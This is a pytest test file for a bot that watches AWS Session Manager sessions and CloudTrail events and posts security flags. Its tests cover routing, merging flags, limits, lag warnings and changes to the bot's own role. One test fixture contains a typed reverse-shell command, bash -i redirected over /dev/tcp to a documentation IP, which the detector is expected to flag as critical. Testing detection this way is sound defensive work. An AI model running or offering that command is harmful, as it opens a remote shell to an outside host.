"""The watch: one flag a session, completed as more arrives; bounded in cost and in number; and it says what is wrong with its sources."""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta

import pytest

from bot.core import flags, watch
from bot.core.coverage import Coverage, Covered
from bot.core.flags import Flag
from bot.core.model import Event, Finding, Kind, Level, Session
from bot.core.watch import Look, Own
from bot.store.ledger import Store
from bot.watcher import Limits, Watcher
from commands import _watch
from queries.rulebook import load
from tests.evidence import Fixed
from tests.payloads import faults
from tests.test_digest import ANA, NoTunnels, ask

NOW = datetime(2026, 11, 23, 9, 5, tzinfo=UTC)
RULES = load()


def session(number=1, **more):
    facts = {
        "owner": ANA,
        "target": "i-0a1b2c3d4e5f60718",
        "started": NOW - timedelta(minutes=9),
        "status": "Connected",
        "kind": Kind.SHELL,
    }
    return Session(f"ana@example.com-{number:017x}", **{**facts, "account": "111122223333", "region": "eu-west-1", "origin": "ssm", **more})


def finding(level=Level.HIGH, number=1, **more):
    return Finding("rule", "A reverse shell", level, text="bash -i", session=f"ana@example.com-{number:017x}", **more)


@pytest.mark.parametrize(
    ("route", "flag", "taken"),
    [
        pytest.param("#sec: high", Flag("a", session(), Level.HIGH, (finding(),)), True, id="loud enough"),
        pytest.param("#sec: critical", Flag("a", session(), Level.HIGH, (finding(),)), False, id="not loud enough"),
        pytest.param("#sec: tunnels", Flag("a", session(kind=Kind.TUNNEL), Level.INFORMATIONAL), True, id="a tunnel"),
        pytest.param("#sec: tunnels", Flag("a", session(), Level.CRITICAL, (finding(Level.CRITICAL),)), False, id="no tunnel"),
        pytest.param("#sec: informational", Flag("a", session(), Level.INFORMATIONAL), False, id="nothing found"),
        pytest.param("#sec: low 444455556666", Flag("a", session(), Level.HIGH, (finding(),)), False, id="another account"),
        pytest.param("#sec: low eu-west-1", Flag("a", session(), Level.HIGH, (finding(),)), True, id="its region"),
    ],
)
def test_a_route_takes_what_it_says(route, flag, taken):
    assert taken is flags.route(route).takes(flag)


def test_two_looks_are_one_flag():
    """CloudTrail after Session Manager, the transcript after the end: nothing that was known is lost."""
    first = flags.flags([session()], [finding(Level.LOW, event="e1")], {}, NOW)[0]
    ended = session(status="", ended=NOW, source_ip="192.0.2.7", origin="cloudtrail")
    second = flags.flags([ended], [finding(Level.LOW, event="e1"), finding(Level.CRITICAL, line=3)], {}, NOW + timedelta(minutes=3))[0]
    both = flags.joined(first, second)
    assert (NOW, "192.0.2.7", Level.CRITICAL, 2) == (both.session.ended, both.session.source_ip, both.level, len(both.findings))
    assert (first.id, "Connected", NOW) == (both.id, both.session.status, both.seen)
    assert both == flags.joined(both, second)
    assert both == flags.restored(_json(flags.stored(both)))
    assert [] == faults(flags.flag_blocks(both))


def test_a_flag_tells_what_a_detector_saw_and_not_merely_a_calls_name():
    """An engineer at night reads what happened; the name of the call says nothing more than the title."""
    said = "StopInstances by its own user at 16:00 UTC"
    loud = [
        finding(event="e1", at=NOW),
        Finding("node_stopped", "The node was stopped during the session", Level.MEDIUM, text=said, session=session().id, event="e1"),
    ]
    shown = str(flags.flag_blocks(flags.flags([session()], loud, {}, NOW)[0]))
    assert f"The node was stopped during the session · medium: {said}" in shown
    called = Finding("ct_x", "A session was opened", Level.HIGH, text="StartSession", session=session().id, event="e1")
    assert "StartSession" not in str(flags.flag_blocks(flags.flags([session()], [called], {}, NOW)[0]))


def _json(value):
    import json

    return json.loads(json.dumps(value, default=lambda each: each.isoformat()))


@dataclass
class Stage:
    """A watcher on a store in memory, whose looks are what the test says."""

    looks: list[Look] = field(default_factory=list)
    said: list[tuple[str, str]] = field(default_factory=list)
    spans: list = field(default_factory=list)
    now: datetime = NOW
    store: Store = field(default_factory=lambda: Store("sqlite://"))
    limits: Limits = field(default_factory=Limits)

    def watcher(self, route="#sec: high tunnels"):
        def look(now, span, trail, known, unread, among, *, wide):
            self.spans.append((span, wide, trail))
            return self.looks.pop(0)

        return Watcher(
            (flags.route(route),),
            self.store,
            look,
            lambda now, known: Look(()),
            lambda: self.now,
            self.limits,
            lambda about, why: self.said.append((about, why)),
        )

    def posts(self):
        return [post for post in self.store.due() if post.key.startswith("flag/")]


@pytest.fixture(name="stage")
def _stage():
    stage = Stage()
    yield stage
    stage.store.close()


def flagged(number=1, *found):
    return flags.flags([session(number)], found or [finding(number=number)], {}, NOW)[0]


def test_the_same_seen_twice_is_one_post(stage):
    stage.looks = [Look((flagged(),)), Look((flagged(),))]
    watcher = stage.watcher()
    watcher.once()
    watcher.once()
    assert [1] == [post.version for post in stage.posts()]


def test_what_arrives_later_edits_the_post(stage):
    stage.looks = [Look((flagged(),)), Look((flagged(1, finding(), finding(Level.CRITICAL, line=2)),))]
    watcher = stage.watcher()
    watcher.once()
    watcher.once()
    [post] = stage.posts()
    assert 2 == post.version
    assert "critical" in post.body["text"]


def test_once_an_hour_it_reaches_further_back(stage):
    stage.store.advance(watch.NAME, NOW)
    stage.looks = [Look(())] * 3
    watcher = stage.watcher()
    for minutes in (0, 3, 60):
        stage.now = NOW + timedelta(minutes=minutes)
        watcher.once()
    assert [True, False, True] == [wide for _, wide, _ in stage.spans]
    assert [timedelta(hours=6), timedelta(minutes=33)] == [
        stage.now - timedelta(minutes=60 - m) - span.since for m, (span, _, _) in zip((0, 3), stage.spans, strict=False)
    ]


def test_once_a_day_it_reaches_furthest_back(stage):
    """CloudTrail may deliver a day late, and then says so in an addendum."""
    stage.store.advance(watch.NAME, NOW)
    stage.looks = [Look(())] * 2
    watcher = stage.watcher()
    watcher.once()
    stage.now = NOW + timedelta(days=1)
    watcher.once()
    assert (NOW - watch.WIDE, NOW - timedelta(days=3)) == (stage.spans[1][0].since, stage.spans[1][2].since)


def test_a_spent_budget_is_told_and_the_watermark_waits(stage):
    stage.store.advance(watch.NAME, NOW)
    stage.looks = [Look((), spent=0.6), Look(())]
    watcher = stage.watcher()
    watcher.once()
    stage.now = NOW + timedelta(minutes=3)
    watcher.once()
    assert 1 == len(stage.spans)
    assert any("budget of $0.50" in why for _, why in stage.said)
    assert NOW == stage.store.watermark(watch.NAME)
    stage.now = NOW + timedelta(hours=1)
    watcher.once()
    assert stage.now == stage.store.watermark(watch.NAME)


def test_too_many_flags_wait_for_the_next_hour_and_one_message_says_so(stage):
    stage.limits = Limits(flags=3)
    stage.looks = [Look(tuple(flagged(n) for n in range(8)))]
    stage.watcher().once()
    posts = stage.posts()
    assert (8, 3) == (len(posts), sum(post.after is None for post in posts))
    assert {datetime(2026, 11, 23, 10, tzinfo=UTC)} == {post.after for post in posts if post.after}
    assert 1 == sum(post.key.startswith("notices/") for post in stage.store.due())


def test_a_flag_that_cannot_be_stored_hides_no_other(stage):
    stage.looks = [Look((replace(flagged(1), findings=None), flagged(2)))]
    stage.watcher().once()
    assert [f"flag/#sec/{session(2).id}"] == [post.key for post in stage.posts()]


def test_falling_behind_is_told(stage):
    stage.store.advance(watch.NAME, NOW - timedelta(hours=2))
    stage.looks = [Look(())]
    stage.watcher().once()
    assert [("the watch", "The watch is 2 h behind: it last looked up to Mon 23 Nov 07:05 UTC.")] == stage.said


def test_a_look_judges_sessions_events_and_typed_commands():
    """On facts in memory: a denied spike, a tunnel and a reverse shell that was typed are three flags."""
    body = b"Script started on 2026-11-23 09:00:00+00:00\nsh-5.2$ bash -i >& /dev/tcp/198.51.100.50/4444 0>&1\r\r\nsh-5.2$ exit\r\r\n"
    event = Event(
        "x1", NOW - timedelta(minutes=5), "cloudtrail.amazonaws.com", "StopLogging", actor=ANA, account="111122223333", region="eu-west-1"
    )
    from bot.core.model import Hit

    shell, tunnel = session(1), session(2, kind=Kind.TUNNEL, host="db.example.com", port="5432")
    world = NoTunnels((shell, tunnel), trail=(event,), body=body, lines=(Hit(shell.id, NOW, "bash -i", owner=ANA),))
    seen = _watch.look(ask("watch"), world, watch.span(NOW, NOW), watch.span(NOW, NOW), (), Own(), lambda names: frozenset(), wide=False)
    by = {flag.id: flag for flag in seen.flags}
    assert Level.CRITICAL == by[shell.id].level
    assert by[tunnel.id].tunnel
    assert by["event x1"].level >= Level.HIGH
    assert "still open" in by[shell.id].missing


def test_a_flagged_session_that_ended_is_completed():
    ended = session(1, ended=NOW, status="Terminated")
    known = flags.flags([session(1)], [finding()], {}, NOW)
    world = Fixed((ended,))
    seen = _watch.look(ask("watch"), world, watch.span(NOW, NOW), watch.span(NOW, NOW), known, Own(), frozenset, wide=False)
    [news] = seen.flags
    assert (NOW, Level.HIGH) == (flags.joined(known[0], news).session.ended, flags.joined(known[0], news).level)
    assert "transcript" in [source.question for source in world.asked]


def test_a_silent_trail_is_not_a_quiet_night():
    ssm = [session(n, started=NOW - timedelta(hours=2)) for n in range(3)]
    assert "CloudTrail is silent" in watch.silent_trail(ssm, [], NOW)
    assert "" == watch.silent_trail(ssm, ssm[:1], NOW)
    assert "" == watch.silent_trail([session(1, started=NOW - timedelta(minutes=5))] * 3, [], NOW)


def test_silent_logs_are_told():
    lost = [Coverage(session(n), Covered.UNEXPECTED_NONE, "Nothing arrived.") for n in range(2)]
    assert watch.silent_logs(lost).endswith("Nothing arrived.")
    assert "" == watch.silent_logs([*lost, Coverage(session(3), Covered.LOGGED, "")])


def test_a_change_of_its_own_role_is_told():
    record = {"requestParameters": {"roleName": "countersign-read", "policyName": "read"}}
    event = Event("x", NOW, "iam.amazonaws.com", "DeleteRolePolicy", actor=ANA, record=record)
    own = Own(roles=("countersign-read",), tables=("",))
    assert ("DeleteRolePolicy on countersign-read by ana@example.com, Mon 23 Nov 09:05 UTC.",) == watch.changed(
        [event, replace(event, error="AccessDenied")], own
    )
    assert () == watch.changed([event], Own(roles=("other",)))
